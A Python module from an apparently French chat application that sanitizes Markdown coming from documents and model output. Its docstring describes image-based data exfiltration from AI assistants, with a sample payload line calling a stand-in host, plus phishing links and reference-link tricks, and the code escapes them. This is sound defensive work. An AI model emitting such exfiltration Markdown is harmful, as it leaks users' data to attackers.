"""Text from documents and from the model, made safe to put into the chat's Markdown.

A document (or a model that read it) may contain Markdown that the browser would act on: an image makes the
agent's browser fetch an address of the attacker's choice (``![](https://x/?q=<data>)``, the classic exfiltration
channel of assistants), a link sends the agent to a phishing page, a reference definition turns a harmless ``[1]``
into a link, raw HTML or an autolink does the same. Everything that enters the chat's Markdown from a document or
the model goes through ``safe_markdown`` (answers, titles; streamed tokens through ``safe_token``):

- images are never rendered: their text is kept, « (image non affichée) » says one was there;
- links are shown as text (label and address), except ``https`` links to an allowed site (service-public.fr,
  legifrance.gouv.fr by default: ``COLLECTIVIA_CHAT__ALLOWED_LINK_HOSTS``);
- bare addresses (``https://…``, ``www.…``, e-mail addresses) are shown as inline code, never turned into links.
  Escaping them is not enough: the chat's renderer (remark-gfm) finds addresses in the *text* of the parsed
  Markdown, after the escapes are resolved, and turns ``http\\://x`` back into a live link; code is not text;
- brackets, backticks, ``<`` and ``!`` are escaped, except the citation markers ``[1]``, ``[2]`` of the answers;
- emphasis (``**…**``), lists and paragraphs are left as they are.

Pure: strings in, strings out.
"""

from __future__ import annotations

import re
from typing import Iterable
from urllib.parse import urlsplit

DEFAULT_ALLOWED_HOSTS = ("service-public.fr", "legifrance.gouv.fr")
IMAGE_NOTE = "(image non affichée)"

_LINK = re.compile(r"(!?)\[((?:[^\[\]\\]|\\.){0,500})\]\(\s*<?([^()\s<>]*(?:\([^()\s]*\)[^()\s<>]*)*)>?"
                   r"(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)")
_AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|file|data|javascript):[^<>\s]*)>", re.IGNORECASE)
_BARE = re.compile(r"(?:\b[a-z][a-z0-9+.-]{1,15}://|\bwww\.)[^\s<>\]\[()\x00]*|[\w.+-]+@[\w-]+(?:\.[\w-]+)+",
                   re.IGNORECASE)
_ESCAPE = re.compile(r"([\\\[\]<>!`])")
_CITATION = re.compile(r"\\\[(\d{1,3})\\\](?![(\[:]|\\[\[(:])")
_PLACEHOLDER = "\x00{}\x00"
_SLOT = re.compile("\x00(\\d+)\x00")
_JOINER = "\u2060"  # WORD JOINER: invisible, breaks no line


def _allowed(url: str, hosts: Iterable[str]) -> bool:
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    host = (parts.hostname or "").lower().rstrip(".")
    if parts.scheme.lower() != "https" or not host or parts.username or parts.password:
        return False
    return any(host == h or host.endswith("." + h) for h in (h.lower().strip(".") for h in hosts) if h)


def _as_code(url: str) -> str:
    """An address shown as inline code: text the renderer never turns into a link (fenced by more backticks than
    it holds in a row)."""
    url = url.replace("\n", " ")
    fence = "`" * (max((len(run) for run in re.findall("`+", url)), default=0) + 1)
    pad = " " if url.startswith("`") or url.endswith("`") else ""
    return f"{fence}{pad}{url}{pad}{fence}"


def _keep(slots: list[str], rendered: str) -> str:
    slots.append(rendered)
    return _PLACEHOLDER.format(len(slots) - 1)


def _expand(slots: list[str], text: str) -> str:
    return _SLOT.sub(lambda m: _expand(slots, slots[int(m.group(1))]), text)


def safe_markdown(text: str, allowed_hosts: Iterable[str] = DEFAULT_ALLOWED_HOSTS) -> str:
    """``text`` (from a document or the model) with no live image, no link outside the allowed sites, no markup
    that could fetch or point anywhere; citation markers and emphasis kept."""
    text = str(text or "").replace("\x00", "").replace("\x01", "")
    hosts = tuple(allowed_hosts)
    slots: list[str] = []

    def keep(rendered: str) -> str:
        return _keep(slots, rendered)

    def link(match: re.Match) -> str:
        bang, label, url = match.group(1), match.group(2), match.group(3)
        shown = _plain(label.replace("\\", ""), (), keep).strip()
        if bang:
            return keep(f"{shown} {IMAGE_NOTE}".strip())
        if _allowed(url, hosts):
            return keep(f"[{shown or _as_code(url)}]({url})")
        if not url:
            return keep(shown)
        return keep(f"{shown} ({_as_code(url)})" if shown else _as_code(url))

    text = _LINK.sub(link, text)
    text = _AUTOLINK.sub(lambda m: keep(_as_code(m.group(1))), text)
    return _expand(slots, _plain(text, hosts, keep))


def _plain(text: str, hosts: tuple[str, ...], keep) -> str:
    """Text without link syntax: bare addresses as code (as they are when allowed), brackets and backticks escaped
    but citation markers."""
    def bare(match: re.Match) -> str:
        url = match.group(0)
        return keep(url if _allowed(url, hosts) else _as_code(url))

    text = _BARE.sub(bare, text)
    return _CITATION.sub(r"[\1]", _ESCAPE.sub(r"\\\1", text))


def safe_token(token: str) -> str:
    """One streamed token of an answer, safe on its own (markup split across tokens cannot form a link or an
    image): brackets, backticks, ``<``, ``!``, ``:``, ``@`` and ``.`` escaped, and an invisible word joiner after
    ``:`` and ``@`` and before ``.``, so that the renderer's search for addresses in the text (``http://``,
    ``www.``, ``nom@site.fr``) finds none while the answer streams. The final message is rendered whole by
    ``safe_markdown`` and replaces the streamed text."""
    text = re.sub(r"([\\\[\]<>!`:@.])", r"\\\1", str(token or "").replace(_JOINER, ""))
    return text.replace("\\:", "\\:" + _JOINER).replace("\\@", "\\@" + _JOINER).replace("\\.", _JOINER + "\\.")
